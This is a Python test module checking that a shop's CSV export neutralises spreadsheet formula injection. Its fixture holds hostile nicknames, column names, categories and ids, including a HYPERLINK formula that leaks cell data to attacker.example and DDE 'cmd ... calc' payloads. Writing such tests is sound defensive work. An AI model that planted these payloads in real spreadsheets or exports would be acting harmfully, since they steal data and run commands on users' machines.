"""A segment's CSV export opened in a spreadsheet runs none of what the shop's customers typed: on a
version trained by the real pipeline from a customers table with hostile attributes (a formula in a
nickname, a bare CR that would split the row, a formula-named column, a formula-named category, a
formula-like customer id), every cell comes back whole and no text cell can start a formula."""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import polars as pl
import pytest
from litestar import Litestar
from litestar.testing import TestClient

from recsvc.domain import columns as c
from recsvc.domain import customer_table as ct
from recsvc.store.files import FileStore
from tests.api_support import client_for
from training.config import load_config
from training.run.pipeline import run_pipeline
from training.sources.generate import generate

CUSTOMERS = 300
NICKNAME = "nickname"
BALANCE = "=balance"  # a shop's column whose very name is a formula
# What customers typed -> the cell a spreadsheet must get.
NICKNAMES = {
    '=HYPERLINK("http://attacker.example/?"&A1,"Click me")': (
        '\'=HYPERLINK("http://attacker.example/?"&A1,"Click me")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Anna\r=2+2": "Anna\r=2+2",  # not at the start: harmless once the CR cannot split the row
    "Bob\n@SUM(3)": "Bob\n@SUM(3)",
    'Zoë, "the boss"': 'Zoë, "the boss"',
    "-12.5": "-12.5",  # plain numbers are read as numbers, not formulas
    "+3": "+3",
    "Chris": "Chris",
}
BALANCES = ["-12.5", "+3", "0", "=1+2"]
CATEGORY = '=cmd|" /C calc"!A0'  # replaces the most common product category
FORMULA_ID = "-C00000042"  # a customer id a spreadsheet would take for a formula
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class HostileVersion:
    store: FileStore
    customers: pl.DataFrame  # the version's customer table, in export order (customer id)


def _hostile_data(data: Path) -> None:
    """Edit generated demo data as a shop's export might arrive: hostile free text, column names
    and category names, one customer id that looks like a formula (renamed in every table)."""
    customers = pl.read_parquet(data / "customers.parquet")
    old_id = str(customers[c.CUSTOMER_ID][41])
    nicknames = list(NICKNAMES)
    customers.with_columns(
        pl.Series(NICKNAME, [nicknames[i % len(nicknames)] for i in range(customers.height)]),
        pl.Series(BALANCE, [BALANCES[i % len(BALANCES)] for i in range(customers.height)]),
    ).write_parquet(data / "customers.parquet")
    for table in ("customers", "orders", "nps_responses", "csat_responses", "ces_responses"):
        path = data / f"{table}.parquet"
        pl.read_parquet(path).with_columns(
            pl.col(c.CUSTOMER_ID).replace(old_id, FORMULA_ID)
        ).write_parquet(path)
    products = pl.read_parquet(data / "products.parquet")
    top = str(products[c.CATEGORY].value_counts(sort=True)[c.CATEGORY][0])
    products.with_columns(pl.col(c.CATEGORY).replace(top, CATEGORY)).write_parquet(
        data / "products.parquet"
    )


@pytest.fixture(scope="module")
def version(tmp_path_factory: pytest.TempPathFactory) -> HostileVersion:
    root = tmp_path_factory.mktemp("export-csv-safety")
    data = root / "data"
    generate(data, CUSTOMERS, seed=11, show_progress=False)
    _hostile_data(data)
    everyone = root / "everyone.toml"
    everyone.write_text(
        '[segments.everyone]\ndescription = "Every customer."\n'
        'expression = "customer_id is not None"\n'
    )
    record = run_pipeline(
        data,
        store=f"file://{root / 'store'}",
        config=load_config(search_trials=0, epochs=1, components=8, max_eval_users=100),
        segments_files=(everyone,),
        runs_dir=root / "runs",
        show_progress=False,
        force=True,
    )
    assert record.published and record.version is not None
    store = FileStore(root / "store")
    table = pl.read_parquet(store.version_dir(record.version) / "customers.parquet")
    return HostileVersion(store, table.sort(c.CUSTOMER_ID))


@pytest.fixture(scope="module")
def client(version: HostileVersion) -> Iterator[TestClient[Litestar]]:
    with client_for(version.store) as test_client:
        yield test_client


@pytest.fixture(
    params=[
        [NICKNAME, BALANCE, ct.DELIVERY_GAP, ct.MONETARY_VALUE],  # written row by row
        [NICKNAME, BALANCE, ct.FAVOURITE_CATEGORIES, ct.DELIVERY_GAP, ct.MONETARY_VALUE],
    ],
    ids=["text-and-numbers", "with-a-list"],
)
def export(request: pytest.FixtureRequest, client: TestClient[Litestar]) -> bytes:
    """The CSV export of segment `everyone` (every customer) with these fields."""
    fields: list[str] = request.param
    response = client.get(
        "/v1/segments/everyone/members", params={"format": "csv", "fields": ",".join(fields)}
    )
    assert response.status_code == 200, response.text
    return response.content


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def _shown(value: str) -> str:
    """A cell as the export must show what a customer typed (the hostile values of the fixture)."""
    return f"'{value}" if value in (FORMULA_ID, BALANCE, "=1+2", CATEGORY) else value


def test_every_row_comes_back_whole_with_formulas_neutralised(
    export: bytes, version: HostileVersion
) -> None:
    table = version.customers
    rows = list(csv.reader(io.StringIO(export.decode(), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == table.height == CUSTOMERS  # no value split a row
    assert all(len(row) == len(header) for row in body)
    assert header[:3] == ["customer_id", NICKNAME, "'=balance"]
    cells = dict(zip(header, zip(*body, strict=True), strict=True))
    assert list(cells["customer_id"]) == [_shown(i) for i in table[c.CUSTOMER_ID]]
    assert list(cells[NICKNAME]) == [NICKNAMES[n] for n in table[NICKNAME]]
    assert list(cells["'=balance"]) == [_shown(b) for b in table[BALANCE]]
    if ct.FAVOURITE_CATEGORIES in cells:
        favourites = cells[ct.FAVOURITE_CATEGORIES]
        assert any(f.startswith(f"'{CATEGORY}") for f in favourites), "no one's first favourite"
    # Numbers stay numbers, negative ones included.
    gaps = [int(cell) if cell else None for cell in cells[ct.DELIVERY_GAP]]
    assert gaps == table[ct.DELIVERY_GAP].to_list() and min(g for g in gaps if g is not None) < 0
    assert [float(cell) if cell else None for cell in cells[ct.MONETARY_VALUE]] == pytest.approx(
        table[ct.MONETARY_VALUE].to_list()
    )


def test_no_cell_starts_a_formula_unless_it_is_a_plain_number(export: bytes) -> None:
    rows = list(csv.reader(io.StringIO(export.decode(), newline="")))
    risky = [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]
    assert risky, "the fixture holds signed numbers"
    assert all(_is_number(cell) for cell in risky), [r for r in risky if not _is_number(r)]


def test_polars_reads_the_export_back_row_for_row(export: bytes, version: HostileVersion) -> None:
    frame = pl.read_csv(io.BytesIO(export), infer_schema=False)
    table = version.customers
    assert frame.columns[:3] == ["customer_id", NICKNAME, "'=balance"]
    assert frame.height == table.height
    assert frame["customer_id"].to_list() == [_shown(i) for i in table[c.CUSTOMER_ID]]
    assert frame[NICKNAME].to_list() == [NICKNAMES[n] for n in table[NICKNAME]]
    assert frame["'=balance"].to_list() == [_shown(b) for b in table[BALANCE]]
